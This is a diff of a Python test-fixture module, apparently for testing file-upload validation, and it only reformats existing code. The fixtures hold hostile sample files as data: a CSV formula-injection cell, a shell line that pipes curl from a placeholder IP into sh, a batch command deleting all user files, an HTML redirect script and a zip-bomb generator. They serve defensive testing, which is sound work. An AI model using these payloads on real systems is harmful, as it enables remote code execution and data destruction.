@@ -91,21 +91,21 @@ def cp932_csv() -> bytes:
     return "氏名,金額,メモ\r\n山田太郎,=cmd|'/C calc'!A0,-5\r\n佐藤花子,1000,+81-3-1234-5678\r\n".encode("cp932")
 
 
-EXECUTABLE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 48 + b"This program cannot be run in DOS mode."
+EXECUTABLE = (b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 48
+              + b"This program cannot be run in DOS mode.")
 SHELL_SCRIPT = b"#!/bin/sh\ncurl http://203.0.113.1/x | sh\n"
 HTML = b"<html><body><script>document.location='http://203.0.113.1/'</script></body></html>"
 BATCH = b"@echo off\r\ndel /q C:\\Users\\*\r\n"
 
 
-@functools.lru_cache(maxsize=None)
+@functools.cache
 def zip_of_zeros(size: int = 1024 ** 3) -> bytes:
     """One entry of ``size`` zero bytes, deflated while written (1 GB of zeros is about 1 MB)."""
     out = io.BytesIO()
     chunk = bytes(1024 * 1024)
-    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
-        with archive.open("zeros.bin", "w") as member:
-            for _ in range(size // len(chunk)):
-                member.write(chunk)
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive, archive.open("zeros.bin", "w") as member:
+        for _ in range(size // len(chunk)):
+            member.write(chunk)
     return out.getvalue()
 
 
